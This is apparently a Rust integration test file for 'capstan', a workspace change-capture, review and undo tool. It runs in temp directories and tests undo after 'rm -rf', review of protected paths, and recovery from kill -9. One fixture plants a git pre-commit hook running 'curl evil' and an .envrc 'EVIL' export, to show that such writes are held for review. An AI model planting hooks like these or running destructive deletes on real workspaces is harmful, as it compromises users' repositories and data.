//! Workspace changes through the real binary: every command's writes are
//! captured, shown as `workspace.changes`, landed atomically (also across a
//! kill -9), reviewed when asked or when protected paths change, and undone
//! byte for byte by `capstan undo`, which refuses files changed since.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::{Home, sha256_file};
use serde_json::{Value, json};

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// A workspace folder (canonical) in its own temp dir.
fn workspace() -> (tempfile::TempDir, PathBuf) {
    let d = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(d.path()).unwrap().join("ws");
    std::fs::create_dir(&ws).unwrap();
    (d, ws)
}

fn invoke(home: &Home, ws: &Path, kind: &str, op: &str, approve: &str, input: Value) -> Output {
    home.capstan()
        .args([
            "invoke",
            kind,
            "--json",
            "--approve",
            approve,
            "--operation",
            op,
            "--workspace",
        ])
        .arg(ws)
        .args(["--input", &input.to_string()])
        .output()
        .unwrap()
}

fn exec(home: &Home, ws: &Path, approve: &str, command: &str) -> Output {
    invoke(
        home,
        ws,
        "terminal_exec",
        "run",
        approve,
        json!({ "command": command }),
    )
}

/// The JSON lines of an `--json` invoke whose `type` is `ty`.
fn events(out: &Output, ty: &str) -> Vec<Value> {
    text(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|v| {
            let e = v.get("event").cloned().unwrap_or(v);
            (e["type"] == ty).then_some(e)
        })
        .collect()
}

/// Every entry under `dir`: path -> (kind, mode, sha256 or link target).
fn tree(dir: &Path) -> BTreeMap<String, (char, u32, String)> {
    fn walk(base: &Path, at: &Path, out: &mut BTreeMap<String, (char, u32, String)>) {
        for e in std::fs::read_dir(at).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(base).unwrap().to_string_lossy().into_owned();
            let m = std::fs::symlink_metadata(&p).unwrap();
            let mode = m.permissions().mode() & 0o777;
            if m.file_type().is_symlink() {
                let t = std::fs::read_link(&p).unwrap();
                out.insert(rel, ('l', 0, t.to_string_lossy().into_owned()));
            } else if m.is_dir() {
                out.insert(rel, ('d', mode, String::new()));
                walk(base, &p, out);
            } else {
                out.insert(rel, ('f', mode, sha256_file(&p)));
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

fn changes_json(home: &Home) -> Vec<Value> {
    let out = home.capstan().args(["changes", "--json"]).output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

fn undo(home: &Home, args: &[&str]) -> Output {
    home.capstan().arg("undo").args(args).output().unwrap()
}

/// `capstan ARGS DIR`: ARGS ending with the option DIR belongs to.
fn capstan_in(home: &Home, args: &[&str], dir: &Path) -> Output {
    home.capstan().args(args).arg(dir).output().unwrap()
}

#[test]
fn an_approved_rm_rf_of_a_thousand_files_is_undone_byte_for_byte() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    for d in 0..10 {
        let dir = ws.join(format!("src/m{d}"));
        std::fs::create_dir_all(&dir).unwrap();
        for i in 0..100 {
            let body: Vec<u8> = (0..(i * 53 + d)).map(|k| (k * 7 + i) as u8).collect();
            std::fs::write(dir.join(format!("f{i}.bin")), body).unwrap();
        }
    }
    let before = tree(&ws);
    let out = exec(&home, &ws, "all", "rm -rf src");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(!ws.join("src").exists());
    let ev = events(&out, "workspace.changes");
    assert_eq!(ev.len(), 1, "{}", text(&out.stdout));
    assert_eq!(ev[0]["state"], "applied");
    let deleted = ev[0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "deleted" && f["entry"] == "file")
        .count();
    assert_eq!(deleted, 1000);

    let out = undo(&home, &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("restored"),
        "{}",
        text(&out.stdout)
    );
    assert_eq!(
        tree(&ws),
        before,
        "undo did not restore the tree byte for byte"
    );
    assert_eq!(changes_json(&home)[0]["state"], "undone");
}

#[test]
fn sed_a_build_a_rename_a_chmod_and_a_symlink_are_captured_and_undone() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    for i in 0..40 {
        std::fs::write(ws.join(format!("f{i}.txt")), format!("colour {i}\nkeep\n")).unwrap();
    }
    std::fs::write(ws.join("old-name.md"), "# moved\n").unwrap();
    std::fs::write(ws.join("run.sh"), "echo run\n").unwrap();
    let before = tree(&ws);
    let out = exec(
        &home,
        &ws,
        "all",
        "sed -i 's/colour/color/' f*.txt && mkdir -p target/release && \
         for i in 1 2 3; do echo obj$i > target/release/o$i.o; done && \
         mv old-name.md new-name.md && chmod 755 run.sh && ln -s f1.txt latest",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let ev = &events(&out, "workspace.changes")[0];
    let by_path: BTreeMap<String, Value> = ev["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap().to_owned(), f.clone()))
        .collect();
    assert_eq!(by_path["f7.txt"]["kind"], "modified");
    assert!(
        by_path["f7.txt"]["diff"]
            .as_str()
            .unwrap()
            .contains("-colour 7\n+color 7"),
        "{}",
        by_path["f7.txt"]
    );
    assert_eq!(by_path["target/release/o2.o"]["kind"], "created");
    assert_eq!(by_path["new-name.md"]["kind"], "renamed");
    assert_eq!(by_path["new-name.md"]["from"], "old-name.md");
    assert_eq!(by_path["run.sh"]["kind"], "mode_changed");
    assert_eq!(by_path["run.sh"]["new_mode"], "755");
    assert_eq!(by_path["latest"]["kind"], "created");
    assert_eq!(by_path["latest"]["entry"], "symlink");
    assert_eq!(
        std::fs::read_to_string(ws.join("f3.txt")).unwrap(),
        "color 3\nkeep\n"
    );
    // `capstan changes RUN --diff` lists and diffs it.
    let run_id = ev["task_id"].as_str().unwrap();
    let listed = home
        .capstan()
        .args(["changes", run_id, "--diff"])
        .output()
        .unwrap();
    let listed_out = text(&listed.stdout);
    assert!(listed.status.success(), "{}", text(&listed.stderr));
    assert!(
        listed_out.contains("renamed      new-name.md (from old-name.md)"),
        "{listed_out}"
    );
    assert!(listed_out.contains("+color 7"), "{listed_out}");

    let set = ev["change_set"].as_str().unwrap();
    let out = undo(&home, &[set]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(tree(&ws), before);
}

#[test]
fn undo_refuses_a_file_a_person_changed_and_says_which() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    for i in 0..3 {
        std::fs::write(ws.join(format!("n{i}.txt")), format!("v1 {i}\n")).unwrap();
    }
    let out = exec(&home, &ws, "all", "sed -i 's/v1/v2/' n0.txt n1.txt n2.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));
    std::fs::write(ws.join("n1.txt"), "my own edit\n").unwrap();
    let out = undo(&home, &[]);
    assert_eq!(out.status.code(), Some(1));
    let said = text(&out.stdout);
    assert!(said.contains("refused to undo"), "{said}");
    assert!(said.contains("n1.txt: its content changed since"), "{said}");
    assert!(said.contains("--keep-changed"), "{said}");
    assert_eq!(
        std::fs::read_to_string(ws.join("n0.txt")).unwrap(),
        "v2 0\n"
    );
    // An explicit choice: undo the others.
    let out = undo(&home, &["--keep-changed"]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    assert_eq!(
        std::fs::read_to_string(ws.join("n0.txt")).unwrap(),
        "v1 0\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("n2.txt")).unwrap(),
        "v1 2\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("n1.txt")).unwrap(),
        "my own edit\n"
    );
}

#[test]
fn undo_and_changes_keep_to_the_workspace_given_and_say_which_one() {
    let home = Home::new("");
    let (_da, a) = workspace();
    let (_db, b) = workspace();
    std::fs::write(a.join("f.txt"), "a1\n").unwrap();
    std::fs::write(b.join("f.txt"), "b1\n").unwrap();
    let out = exec(&home, &a, "all", "echo a2 > f.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));
    // The newest set of all is b's.
    let out = exec(&home, &b, "all", "echo b2 > f.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));

    let out = capstan_in(&home, &["changes", "--json", "--workspace"], &b);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let sets: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(sets.len(), 1, "{sets:?}");
    assert_eq!(sets[0]["workspace"], b.to_str().unwrap());

    // Undo in a: a's set, not the newest of all.
    let out = capstan_in(&home, &["undo", "--workspace"], &a);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let said = text(&out.stdout);
    assert!(said.contains(&format!("in {})", a.display())), "{said}");
    assert!(said.contains("`echo a2 > f.txt`"), "{said}");
    assert_eq!(std::fs::read_to_string(a.join("f.txt")).unwrap(), "a1\n");
    assert_eq!(std::fs::read_to_string(b.join("f.txt")).unwrap(), "b2\n");

    // Nothing left in a: said so, with the command that lists a's sets.
    let out = capstan_in(&home, &["undo", "-w"], &a);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(err.contains("nothing to undo in"), "{err}");
    assert!(err.contains("capstan changes --workspace"), "{err}");

    // Without --workspace: the newest set of all (b's), named with its folder.
    let out = undo(&home, &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let said = text(&out.stdout);
    assert!(said.contains(&format!("in {})", b.display())), "{said}");
    assert_eq!(std::fs::read_to_string(b.join("f.txt")).unwrap(), "b1\n");

    // A target of another workspace is not found under --workspace.
    let id = sets[0]["id"].as_str().unwrap();
    let out = capstan_in(&home, &["changes", id, "--workspace"], &a);
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(
        err.contains(&format!("no change set of {} belongs to", a.display())),
        "{err}"
    );
}

fn trusted(home: &Home, ws: &Path) {
    let out = home
        .capstan()
        .args(["workspace", "add"])
        .arg(ws)
        .args(["--profile", "trusted"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn review_mode_holds_the_diff_deny_discards_and_approve_lands() {
    let (_d, ws) = workspace();
    let home = Home::new(&format!(
        "[changes.workspace.{:?}]\napply = \"review\"\n",
        ws.display().to_string()
    ));
    trusted(&home, &ws);
    std::fs::write(ws.join("a.txt"), "a\n").unwrap();
    let before = tree(&ws);
    let out = exec(&home, &ws, "none", "echo b > b.txt && echo more >> a.txt");
    let asked = events(&out, "approval.requested");
    assert_eq!(asked.len(), 1, "{}", text(&out.stdout));
    assert_eq!(asked[0]["action"], "workspace.changes");
    let states: Vec<Value> = events(&out, "workspace.changes")
        .iter()
        .map(|e| e["state"].clone())
        .collect();
    assert_eq!(states, vec![json!("pending"), json!("discarded")]);
    assert_eq!(tree(&ws), before, "a denied review changed the workspace");

    let out = exec(&home, &ws, "all", "echo b > b.txt && echo more >> a.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(ws.join("b.txt")).unwrap(), "b\n");
    assert_eq!(
        std::fs::read_to_string(ws.join("a.txt")).unwrap(),
        "a\nmore\n"
    );
}

/// A command that names no protected path (the classifier asks for those
/// already) but writes one: a template copied over the workspace. Its
/// change set is reviewed even under `trusted`.
#[test]
fn protected_paths_are_reviewed_even_under_trusted() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    trusted(&home, &ws);
    for (tpl, file) in [
        ("t1", ".envrc"),
        ("t2", ".git/hooks/pre-commit"),
        ("t3", "capstan.toml"),
        ("t4", ".git/config"),
    ] {
        let p = ws.join(tpl).join(file);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, "planted\n").unwrap();
    }
    let before = tree(&ws);
    for tpl in ["t1", "t2", "t3", "t4"] {
        let cmd = format!("cp -r {tpl}/. .");
        let out = exec(&home, &ws, "none", &cmd);
        let asked = events(&out, "approval.requested");
        assert_eq!(asked.len(), 1, "{cmd}: {}", text(&out.stdout));
        assert_eq!(asked[0]["action"], "workspace.changes", "{}", asked[0]);
        assert!(
            asked[0]["reasons"][0]
                .as_str()
                .unwrap()
                .contains("protected paths"),
            "{}",
            asked[0]
        );
        assert_eq!(tree(&ws), before, "{cmd} landed without review");
    }
    // An ordinary file under trusted: no question, it lands.
    let out = exec(&home, &ws, "none", "echo ok > notes.txt");
    assert!(events(&out, "approval.requested").is_empty());
    assert!(ws.join("notes.txt").exists());
}

#[test]
fn a_docx_replace_is_undone() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    let out = invoke(
        &home,
        &ws,
        "docx",
        "create",
        "all",
        json!({"path": "r.docx", "markdown": "# Report\n\nRevenue grew.\n"}),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let created = sha256_file(&ws.join("r.docx"));
    let out = invoke(
        &home,
        &ws,
        "docx",
        "replace",
        "all",
        json!({"path": "r.docx", "find": "grew", "replace": "fell"}),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let ev = events(&out, "workspace.changes");
    assert_eq!(ev.len(), 1, "{}", text(&out.stdout));
    assert_eq!(ev[0]["files"][0]["kind"], "modified");
    assert!(
        ev[0]["files"][0]["summary"]
            .as_str()
            .unwrap()
            .starts_with("office document"),
        "{}",
        ev[0]
    );
    assert_ne!(sha256_file(&ws.join("r.docx")), created);
    let out = undo(&home, &[ev[0]["change_set"].as_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    assert_eq!(sha256_file(&ws.join("r.docx")), created);
}

/// A plugin that writes files its input does not name (which the host
/// cannot snapshot beforehand) is still seen: the writes are in the change
/// set, flagged, and undo never pretends it can put back what was not kept.
#[test]
fn a_plugin_write_its_input_does_not_name_is_seen_and_never_falsely_undone() {
    let fault = common::plugin_entry(
        "fault",
        "fault",
        &["fault"],
        "[plugin.permissions]\nworkspace = \"read-write\"\nhost = [\"exec\"]\n",
    );
    let home = Home::new(&fault);
    let (_d, ws) = workspace();
    std::fs::create_dir(ws.join("sub")).unwrap();
    std::fs::write(ws.join("sub/old.txt"), "before\n").unwrap();
    std::fs::write(ws.join("gone.txt"), "keep me\n").unwrap();
    std::fs::write(ws.join("same.txt"), "untouched\n").unwrap();
    let out = invoke(
        &home,
        &ws,
        "fault",
        "scribble",
        "all",
        json!({"write": {"sub/old.txt": "after\n", "fresh.txt": "new\n"}, "remove": ["gone.txt"]}),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let ev = events(&out, "workspace.changes");
    assert_eq!(ev.len(), 1, "{}", text(&out.stdout));
    let files: BTreeMap<String, Value> = ev[0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap().to_owned(), f.clone()))
        .collect();
    let kinds: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, f)| (p.as_str(), f["kind"].as_str().unwrap()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("fresh.txt", "created"),
            ("gone.txt", "deleted"),
            ("sub/old.txt", "modified")
        ],
        "{}",
        ev[0]
    );
    for f in files.values() {
        assert_eq!(f["undeclared"], true, "{f}");
    }
    assert!(
        files["sub/old.txt"]["summary"]
            .as_str()
            .unwrap()
            .contains("previous version was not kept"),
        "{}",
        files["sub/old.txt"]
    );
    assert!(
        files["fresh.txt"]["diff"]
            .as_str()
            .unwrap()
            .contains("+new"),
        "{}",
        files["fresh.txt"]
    );
    let id = ev[0]["change_set"].as_str().unwrap();

    // Plain undo refuses as a whole and names what it cannot restore.
    let before_undo = tree(&ws);
    let out = undo(&home, &[id]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    let said = text(&out.stdout);
    assert!(
        said.contains("gone.txt") && said.contains("sub/old.txt"),
        "{said}"
    );
    assert!(said.contains("previous version was not kept"), "{said}");
    assert_eq!(
        tree(&ws),
        before_undo,
        "a refused undo changed the workspace"
    );

    // --force cannot invent the old content either: the created file goes,
    // the two without a kept version stay exactly as the plugin left them.
    let out = undo(&home, &["--force", id]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    assert!(!ws.join("fresh.txt").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/old.txt")).unwrap(),
        "after\n"
    );
    assert!(!ws.join("gone.txt").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("same.txt")).unwrap(),
        "untouched\n"
    );
    assert!(
        text(&out.stdout).contains("left as it is: sub/old.txt"),
        "{}",
        text(&out.stdout)
    );

    // A declared write in the same kind of call keeps its previous version.
    let out = invoke(
        &home,
        &ws,
        "fault",
        "write-path",
        "all",
        json!({"path": "same.txt", "content": "changed\n"}),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let ev = events(&out, "workspace.changes");
    assert_eq!(ev[0]["files"].as_array().unwrap().len(), 1, "{}", ev[0]);
    assert!(ev[0]["files"][0].get("undeclared").is_none(), "{}", ev[0]);
    let out = undo(&home, &[ev[0]["change_set"].as_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    assert_eq!(
        std::fs::read_to_string(ws.join("same.txt")).unwrap(),
        "untouched\n"
    );
}

/// Runs git in `ws` (with a throw-away identity), asserts it succeeded and
/// returns its stdout.
fn git_in(ws: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(ws)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    text(&out.stdout)
}

/// Inside a git repository, capture and undo work on the files alone: the
/// index (staging area) is byte for byte what it was, and after undo git
/// sees a clean tree.
#[test]
fn undo_inside_a_git_repo_never_touches_the_index() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    let git = |args: &[&str]| git_in(&ws, args);
    git(&["init", "-q"]);
    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "init"]);
    let index = sha256_file(&ws.join(".git/index"));
    let before = tree(&ws);
    let out = exec(&home, &ws, "all", "echo two >> a.txt && echo new > b.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(ws.join("a.txt")).unwrap(),
        "one\ntwo\n"
    );
    let ev = events(&out, "workspace.changes");
    let mut paths: Vec<&str> = ev[0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    paths.sort();
    assert_eq!(paths, ["a.txt", "b.txt"], "{}", ev[0]);
    assert_eq!(
        sha256_file(&ws.join(".git/index")),
        index,
        "the run touched the index"
    );
    let out = undo(&home, &[ev[0]["change_set"].as_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    assert_eq!(
        sha256_file(&ws.join(".git/index")),
        index,
        "undo touched the index"
    );
    assert_eq!(tree(&ws), before);
    assert_eq!(git(&["status", "--porcelain"]), "");
}

/// A command judged read-only runs on a read-only workspace: it works (git
/// included, whose status would refresh a stale index), no change set is
/// made, and nothing in the workspace moves, index included. The next
/// command that writes is captured as before.
#[test]
fn a_read_only_command_runs_on_a_read_only_workspace_and_makes_no_change_set() {
    let home = Home::new("");
    let (_d, ws) = workspace();
    let git = |args: &[&str]| {
        git_in(&ws, args);
    };
    git(&["init", "-q"]);
    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "init"]);
    // Same content, new mtime: the index is stale and `git status` would
    // rewrite it if it could.
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
    let before = tree(&ws);
    let index = std::fs::metadata(ws.join(".git/index")).unwrap();
    let out = exec(
        &home,
        &ws,
        "none",
        "git status --porcelain && ls && cat a.txt && grep -c one a.txt",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let steps = events(&out, "terminal.step");
    assert_eq!(steps[0]["risk"], "read_only", "{}", steps[0]);
    assert_eq!(steps[0]["exit_code"], 0, "{}", steps[0]);
    assert!(events(&out, "workspace.changes").is_empty());
    assert!(changes_json(&home).is_empty(), "{:?}", changes_json(&home));
    assert_eq!(tree(&ws), before);
    let after = std::fs::metadata(ws.join(".git/index")).unwrap();
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        (after.ino(), after.mtime(), after.mtime_nsec()),
        (index.ino(), index.mtime(), index.mtime_nsec()),
        "the index was rewritten"
    );

    let out = exec(&home, &ws, "all", "echo two >> a.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(events(&out, "workspace.changes").len(), 1);
}

/// `capstan invoke --approve ask` answering each approval from `answers`
/// (one line each: the operation's own approval, then the review).
fn invoke_answering(home: &Home, ws: &Path, op: &str, input: Value, answers: &str) -> Output {
    use std::io::Write as _;
    let mut child = home
        .capstan()
        .args([
            "invoke",
            "fault",
            "--json",
            "--approve",
            "ask",
            "--operation",
            op,
            "--workspace",
        ])
        .arg(ws)
        .args(["--input", &input.to_string()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(answers.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// A plugin writes in place, so its review comes after the write: a
/// protected path written by a third-party plugin (named in its input or
/// not) is held as `pending`, and a denial takes it back.
#[test]
fn a_plugin_writing_a_protected_path_is_reviewed_and_a_denial_takes_it_back() {
    let fault = common::plugin_entry(
        "fault",
        "fault",
        &["fault"],
        "[plugin.permissions]\nworkspace = \"read-write\"\nhost = [\"exec\"]\n",
    );
    let home = Home::new(&fault);
    let (_d, ws) = workspace();
    std::fs::write(ws.join(".envrc"), "export OK=1\n").unwrap();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    let before = tree(&ws);
    let states = |out: &Output| -> Vec<Value> {
        events(out, "workspace.changes")
            .iter()
            .map(|e| e["state"].clone())
            .collect()
    };

    for (op, input) in [
        (
            "write-path",
            json!({"path": ".envrc", "content": "export EVIL=1\n"}),
        ),
        (
            "scribble",
            json!({"write": {".git/hooks/pre-commit": "#!/bin/sh\ncurl evil\n"}}),
        ),
    ] {
        let out = invoke_answering(&home, &ws, op, input, "y\nn\n");
        let said = text(&out.stdout);
        let asked = events(&out, "approval.requested");
        assert_eq!(asked.len(), 2, "{said}");
        assert_eq!(asked[1]["action"], "workspace.changes", "{said}");
        assert!(
            asked[1]["reasons"][0]
                .as_str()
                .unwrap()
                .contains("protected paths"),
            "{said}"
        );
        assert_eq!(states(&out), [json!("pending"), json!("undone")], "{said}");
        let failed = events(&out, "task.failed");
        assert_eq!(failed.len(), 1, "{said}");
        assert_eq!(failed[0]["reason"], "denied", "{said}");
        assert!(!out.status.success());
        assert_eq!(tree(&ws), before, "{op}: a denied review left a change");
    }

    let out = invoke_answering(
        &home,
        &ws,
        "write-path",
        json!({"path": ".envrc", "content": "export NEW=1\n"}),
        "y\ny\n",
    );
    assert!(out.status.success(), "{}", text(&out.stdout));
    assert_eq!(states(&out), [json!("pending"), json!("applied")]);
    assert_eq!(
        std::fs::read_to_string(ws.join(".envrc")).unwrap(),
        "export NEW=1\n"
    );
}

/// kill -9 at random points of a landing (20 runs): every file is wholly
/// old or wholly new, none is lost, and the next start finishes the landing.
#[test]
fn kill_9_during_landing_never_mixes_or_loses_a_file() {
    let home = Home::new("");
    for run in 0..20u64 {
        let (_d, ws) = workspace();
        let n = 60;
        for i in 0..n {
            std::fs::write(
                ws.join(format!("k{i}.txt")),
                format!("old {i}\n").repeat(200),
            )
            .unwrap();
        }
        let mut child = home
            .capstan()
            .args(["invoke", "terminal_exec", "--approve", "all", "--workspace"])
            .arg(&ws)
            .args([
                "--input",
                r#"{"command":"sed -i 's/old/new/' k*.txt && rm k0.txt && echo x > created.txt"}"#,
            ])
            // Slows each landing operation down so the kill lands inside it.
            .env("CAPSTAN_LANDING_PAUSE_US", "3000")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let journal = home.path().join("data/changes/journal");
        // Wait for the landing to start, then a pseudo-random delay.
        let mut started = false;
        for _ in 0..2000 {
            if std::fs::read_dir(&journal)
                .map(|d| {
                    d.flatten()
                        .any(|e| e.path().extension().is_some_and(|x| x == "json"))
                })
                .unwrap_or(false)
            {
                started = true;
                break;
            }
            if child.try_wait().unwrap().is_some() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        assert!(started, "run {run}: the landing never started");
        let delay = (run * 7919) % 180;
        std::thread::sleep(std::time::Duration::from_millis(delay));
        let _ = child.kill();
        let _ = child.wait();
        let check = |after_recovery: bool| {
            for i in 1..n {
                let s = std::fs::read_to_string(ws.join(format!("k{i}.txt")))
                    .unwrap_or_else(|e| panic!("run {run}: k{i}.txt lost: {e}"));
                let old = format!("old {i}\n").repeat(200);
                let new = format!("new {i}\n").repeat(200);
                if after_recovery {
                    assert_eq!(s, new, "run {run}: k{i}.txt not finished");
                } else {
                    assert!(s == old || s == new, "run {run}: k{i}.txt is mixed");
                }
            }
        };
        check(false);
        // The next start finishes it.
        let out = home.capstan().args(["changes", "--json"]).output().unwrap();
        assert!(out.status.success(), "{}", text(&out.stderr));
        check(true);
        assert!(!ws.join("k0.txt").exists());
        assert_eq!(
            std::fs::read_to_string(ws.join("created.txt")).unwrap(),
            "x\n"
        );
        let leftovers: Vec<String> = std::fs::read_dir(&ws)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".capstan"))
            .collect();
        assert!(leftovers.is_empty(), "run {run}: {leftovers:?}");
    }
}
